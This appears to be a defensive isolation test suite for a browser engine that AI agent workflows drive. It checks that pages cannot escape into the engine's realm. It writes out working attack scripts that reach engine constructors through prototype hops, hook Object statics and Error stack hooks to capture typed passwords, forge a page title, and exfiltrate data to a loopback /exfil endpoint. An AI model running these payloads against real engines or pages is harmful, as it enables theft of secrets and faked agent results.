/** @needs-bundle engine */
// Pages cannot reach each other or the engine through the engine's realm (docs/security.md, "Pages
// and the engine's realm"). Each attack is planted by a page a plan only opens to read (/docs); it
// is then looked for from a later page of the same session, from a page of another session, and in
// the engine's own handling of a call that carries a secret (type_text into /bank) and of a result
// the plan checks (/bank's title). The attacks reach the engine's realm without compiling anything:
// two prototype hops from a DOM method give its `Object`, a bad call of that `Object`'s methods
// throws its `TypeError` (and so its `Error`), `Object.keys` returns its arrays, and `Object(x)`
// boxes primitives in its `String`, `Number`, `Boolean` and `Symbol`. Loopback only: the page
// server doubles as the exfiltration recorder (`/exfil?d=…`). Run against the built engine
// (dist/engine), and through the CLI and the action in-process (src/), each starting the built
// engine as its child. On the engine before ses's
// lockdown every attack below was observed (each one a way out of a page's realm).
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { call, connectClient } from './helpers/engine-process.js';
import { runCliInProcess } from '../helpers/cli.js';
import { FakeGitHub } from '../github/helpers/fake-github.js';
import { labelFor, openPullRequest, planLabelFor, PR, runGate, startGitHub } from '../github/helpers/scenario.js';

const SECRET = `pw-${randomBytes(10).toString('hex')}`;
const FORGED_TITLE = 'Payment confirmed';
const BANK_TITLE = 'bank login';

/** What every attack script starts from: the engine realm's constructors, reached without code generation. */
const REACH = `
  var O = Object.getPrototypeOf(Object.getPrototypeOf(document.createElement)).constructor;
  var TE; try { O.defineProperty(1); } catch (e) { TE = e.constructor; }
  var E = Object.getPrototypeOf(TE);
  var A = O.keys({}).constructor;
  var S = O(Symbol.iterator).constructor;
  var Str = O('').constructor, Num = O(1).constructor, Bool = O(true).constructor;
  var F = Object.getPrototypeOf(document.createElement).constructor;
  var SHARED = { Object: O, TypeError: TE, Error: E, Array: A, Symbol: S, String: Str, Number: Num, Boolean: Bool, Function: F };
  function send(d) { try { var x = new XMLHttpRequest(); x.open('GET', location.origin + '/exfil?d=' + encodeURIComponent(d)); x.send(); } catch (e) {} }
`;

interface Attack {
  name: string;
  /** Page-realm script that plants the attack (the realm names of REACH are in scope); `loot(text)` keeps what it saw. */
  plant: string;
}

const ATTACKS: Attack[] = [
  {
    name: 'Object statics (entries/keys/fromEntries/assign/values) replaced',
    plant: `
      ['entries', 'keys', 'fromEntries', 'assign', 'values'].forEach(function (name) {
        var original = O[name];
        var hook = function () {
          try { loot(JSON.stringify(arguments[0])); } catch (e) {}
          var out = original.apply(this, arguments);
          if (name === 'entries') out.forEach(function (pair) { if (pair[1] === '${BANK_TITLE}') pair[1] = '${FORGED_TITLE}'; });
          return out;
        };
        try { O[name] = hook; } catch (e) {}
      });`,
  },
  {
    name: 'Error hooks (prepareStackTrace, captureStackTrace, stackTraceLimit) set',
    plant: `
      [E, TE].forEach(function (ctor) {
        try { ctor.prepareStackTrace = function (error) { loot(String(error && error.message)); return 'forged stack'; }; } catch (e) {}
        try { ctor.captureStackTrace = function (target) { loot(String(target && target.message)); }; } catch (e) {}
        try { ctor.stackTraceLimit = 0; } catch (e) {}
      });`,
  },
  {
    name: 'Array species redirected',
    plant: `
      try {
        O.defineProperty(A, Symbol.species, { configurable: true, get: function () {
          try { if (this === A) loot(JSON.stringify(new Error().message)); } catch (e) {}
          return function () { var made = new A(); loot('species'); return made; };
        } });
      } catch (e) {}`,
  },
  {
    name: 'Symbol registry and constructor statics replaced',
    plant: `
      try { var forOriginal = S.for; S.for = function (key) { loot(String(key)); return forOriginal.call(S, key); }; } catch (e) {}
      try { Str.raw = function () { loot('raw'); return ''; }; } catch (e) {}
      try { Num.isSafeInteger = function (v) { loot(String(v)); return true; }; } catch (e) {}`,
  },
  {
    name: 'properties planted on engine-realm objects (a channel between pages)',
    plant: `
      Object.keys(SHARED).forEach(function (name) {
        try { SHARED[name].__planted = 'PLANTED ' + name; } catch (e) {}
        try { Object.defineProperty(SHARED[name], '__plantedHidden', { value: 'PLANTED hidden ' + name, configurable: true }); } catch (e) {}
      });
      try { O.prototype.__planted = 'PLANTED Object.prototype'; } catch (e) {}
      try { O.getPrototypeOf(document.createElement).__planted = 'PLANTED Function.prototype'; } catch (e) {}`,
  },
];

function attackerPage(attack: Attack): string {
  return `<!doctype html><html><head><title>Docs</title></head><body><h1>Docs</h1><p>Read me.</p><script>
${REACH}
  var stash = [];
  function loot(text) { stash.push(text); if (String(text).indexOf('pw-') !== -1) send(text); }
  try { O.__loot = stash; } catch (e) {}
  try { S.__loot = stash; } catch (e) {}
${attack.plant}
</script></body></html>`;
}

/** A later page: reports whatever a planted attack left where any page can look. */
const PROBE_PAGE = `<!doctype html><html><head><title>probe</title></head><body><h1>Probe</h1><p id="out">clean</p><script>
${REACH}
  var seen = [];
  Object.keys(SHARED).forEach(function (name) {
    var ctor = SHARED[name];
    ['__planted', '__plantedHidden', '__loot'].forEach(function (key) { try { if (ctor[key] !== undefined) seen.push(name + '.' + key + '=' + JSON.stringify(ctor[key])); } catch (e) {} });
  });
  try { if (O.prototype.__planted !== undefined) seen.push('Object.prototype.__planted'); } catch (e) {}
  try { if (O.getPrototypeOf(document.createElement).__planted !== undefined) seen.push('Function.prototype.__planted'); } catch (e) {}
  ['entries', 'keys', 'fromEntries', 'assign', 'values'].forEach(function (name) { if (String(O[name]).indexOf('[native code]') === -1) seen.push('Object.' + name + ' replaced'); });
  if (String(S.for).indexOf('[native code]') === -1) seen.push('Symbol.for replaced');
  if (String(Num.isSafeInteger).indexOf('[native code]') === -1) seen.push('Number.isSafeInteger replaced');
  if (A[Symbol.species] !== A) seen.push('Array species redirected');
  [E, TE].forEach(function (ctor, i) {
    if (ctor.stackTraceLimit === 0) seen.push('stackTraceLimit 0 (' + i + ')');
    if (typeof ctor.prepareStackTrace === 'function' && String(ctor.prepareStackTrace).indexOf('forged') !== -1) seen.push('prepareStackTrace planted (' + i + ')');
  });
  var outer; try { O.defineProperty(2); } catch (e) { outer = e; }
  if (String(outer.stack).indexOf('forged') !== -1) seen.push('engine error stacks forged');
  var report = seen.length === 0 ? 'clean' : seen.join('; ');
  document.getElementById('out').textContent = report;
  document.title = 'probe ' + (seen.length === 0 ? 'clean' : 'DIRTY');
  if (seen.length > 0) send(report);
</script></body></html>`;

const BANK_PAGE = `<!doctype html><html><head><title>${BANK_TITLE}</title></head><body><h1>Bank</h1>
<form><label for="pw">Password</label><input id="pw" name="pw" type="password"><button type="button">Sign in</button></form></body></html>`;

const exfiltrated: string[] = [];
let server: http.Server;
let origin = '';
const dir = mkdtempSync(join(tmpdir(), 'isolation-'));

beforeAll(async () => {
  server = http.createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://127.0.0.1');
    if (url.pathname === '/exfil') {
      exfiltrated.push(url.searchParams.get('d') ?? '');
      response.writeHead(204).end();
      return;
    }
    const attack = ATTACKS[Number(url.searchParams.get('attack'))];
    const body = url.pathname === '/docs' && attack ? attackerPage(attack) : url.pathname === '/probe' ? PROBE_PAGE : url.pathname === '/bank' ? BANK_PAGE : undefined;
    if (body === undefined) {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  rmSync(dir, { recursive: true, force: true });
});
beforeEach(() => {
  exfiltrated.length = 0;
});

function textboxId(pageText: string): string {
  const match = /"id":"(e_[0-9a-f]+)"[^{}]*"role":"text_input"|"role":"text_input"[^{}]*"id":"(e_[0-9a-f]+)"/.exec(pageText);
  const id = match?.[1] ?? match?.[2];
  if (id === undefined) throw new Error(`no text input in ${pageText.slice(0, 300)}`);
  return id;
}

/**
 * /bank's text input id as the engine reports it (the same for every engine: same origin, same
 * page). Kept from the per-attack runs below so the CLI and action cases need no engine of their
 * own to learn it; started for only when those run alone.
 */
let bankTextbox: string | undefined;

const sessionOf = (text: string): string => (JSON.parse(text) as { session_id: string }).session_id;
const titleOf = (text: string): string => (JSON.parse(text) as { title: string }).title;

describe('through the built engine: each attack, planted by a page opened only to read', () => {
  let client: Client;
  beforeEach(async () => {
    // One engine per attack: what one attack planted must not be what the next one observes.
    client = await connectClient();
  });
  afterEach(async () => {
    await client.close();
  });

  test.each(ATTACKS.map((attack, index) => [attack.name, index] as const))('%s: not seen by a later page, another session, or the engine\'s handling of a secret and of a result', async (_name, index) => {
    const docs = await call(client, 'open_page', { url: `${origin}/docs?attack=${index}` });
    expect(docs.isError).toBe(false);
    const session = sessionOf(docs.text);
    const bank = await call(client, 'navigate_to', { session_id: session, url: `${origin}/bank` });
    expect(bank.isError).toBe(false);
    // The result the plan checks is the page's own.
    expect(titleOf(bank.text)).toBe(BANK_TITLE);
    bankTextbox = textboxId(bank.text);
    const typed = await call(client, 'type_text', { session_id: session, element_id: bankTextbox, text: SECRET });
    expect(typed.isError).toBe(false);
    // (type_text's own result shows the typed value, as upstream's does: the runner redacts it.)
    expect(typed.text).not.toContain(FORGED_TITLE);
    // A call the engine refuses, carrying the secret (its error echoes it to the runner, which
    // redacts): neither the error nor its stack may reach a page's hook.
    const refused = await call(client, 'click', { session_id: session, element_id: SECRET });
    expect(refused.isError).toBe(true);
    // A later page of the same session.
    const laterPage = await call(client, 'navigate_to', { session_id: session, url: `${origin}/probe` });
    expect(titleOf(laterPage.text)).toBe('probe clean');
    // A page of another session of the same engine.
    const other = await call(client, 'open_page', { url: `${origin}/probe` });
    expect(titleOf(other.text)).toBe('probe clean');
    for (const result of [docs, bank, laterPage, other]) expect(result.text).not.toContain(SECRET);
    expect(exfiltrated).toEqual([]);
  }, 60_000);
});

interface Reproduction {
  plan: string;
  textbox: string;
}

/** The reproduced attack as a plan: open /docs (attack 0), navigate to /bank, type the secret, expect the forged title. */
async function reproduction(): Promise<Reproduction> {
  if (bankTextbox === undefined) {
    const client = await connectClient();
    try {
      bankTextbox = textboxId((await call(client, 'open_page', { url: `${origin}/bank` })).text);
    } finally {
      await client.close();
    }
  }
  const textbox = bankTextbox;
  const plan = JSON.stringify({
    schema: 'plasmate.agent-workflow.v1',
    name: 'docs then bank',
    steps: [
      { id: 'docs', tool: 'open_page', arguments: { url: `${origin}/docs?attack=0` } },
      { id: 'bank', tool: 'navigate_to', arguments: { url: `${origin}/bank` } },
      { id: 'type', tool: 'type_text', arguments: { element_id: textbox, text: { $secret: 'BANK_PW' } } },
      { id: 'confirm', tool: 'navigate_to', arguments: { url: `${origin}/bank` }, expect: { json_pointer: '/title', equals: FORGED_TITLE } },
      { id: 'probe', tool: 'navigate_to', arguments: { url: `${origin}/probe` }, expect: { json_pointer: '/title', equals: 'probe clean' } },
    ],
  }, null, 2);
  return { plan, textbox };
}

test('through the CLI: the reproduced plan neither leaks BANK_PW nor passes the forged expectation', async () => {
  const { plan } = await reproduction();
  const planPath = join(dir, 'docs-then-bank.json');
  writeFileSync(planPath, plan);
  const reportPath = join(dir, 'cli-report.json');
  // In-process (src/cli): the subject is the run's handling of the attack, not the bundle's start;
  // the engine is still the built one, a real child confined as the runner starts it.
  const run = await runCliInProcess(['agent-run', '--plan', planPath, '--report', reportPath, '--engine', 'reference', '--allow-private-network',
    '--confirm-step', 'bank', '--confirm-step', 'type', '--confirm-step', 'confirm', '--confirm-step', 'probe', '--secret', 'BANK_PW'], {
    env: { PATH: process.env.PATH, BANK_PW: SECRET },
  });
  expect(run.code).toBe(1);
  const report = JSON.parse(readFileSync(reportPath, 'utf8')) as { steps: Array<{ id: string; status: string; failure_class?: string }> };
  const byId = Object.fromEntries(report.steps.map((step) => [step.id, step]));
  expect(byId.type).toMatchObject({ status: 'succeeded' });
  expect(byId.confirm).toMatchObject({ status: 'failed', failure_class: 'expectation_mismatch' });
  expect(exfiltrated).toEqual([]);
  expect(run.stdout + run.stderr + readFileSync(reportPath, 'utf8')).not.toContain(SECRET);
}, 60_000);

describe('through the action', () => {
  let gh: FakeGitHub;
  beforeEach(async () => {
    gh = await startGitHub();
  });
  afterEach(async () => {
    await gh.stop();
  });

  test('execute mode: the approved reproduced plan neither leaks BANK_PW nor passes the forged expectation', async () => {
    const { plan } = await reproduction();
    const content = Buffer.from(plan);
    openPullRequest(gh, { 'plans/docs-then-bank.json': content });
    for (const step of ['bank', 'type', 'confirm', 'probe']) gh.applyLabel(PR, labelFor(content, step), { login: 'maint' });
    gh.applyLabel(PR, planLabelFor(content), { login: 'maint' });
    const run = await runGate(gh, { inputs: { mode: 'execute', engine: 'reference', 'allow-private-network': 'true', secrets: 'BANK_PW' }, env: { BANK_PW: SECRET } });
    expect(run.outputs).toMatchObject({ conclusion: 'failure', 'executed-plans': '1', 'failed-executions': '1' });
    const report = JSON.parse(readFileSync(run.outputs.reports!, 'utf8')) as { steps: Array<{ id: string; status: string; failure_class?: string }> };
    const confirm = report.steps.find((step) => step.id === 'confirm');
    expect(confirm).toMatchObject({ status: 'failed', failure_class: 'expectation_mismatch' });
    expect(exfiltrated).toEqual([]);
    expect(run.stdout.split('\n').filter((line) => line.includes(SECRET))).toEqual([`::add-mask::${SECRET}`]);
    expect(JSON.stringify(gh.requests)).not.toContain(SECRET);
  }, 90_000);
});
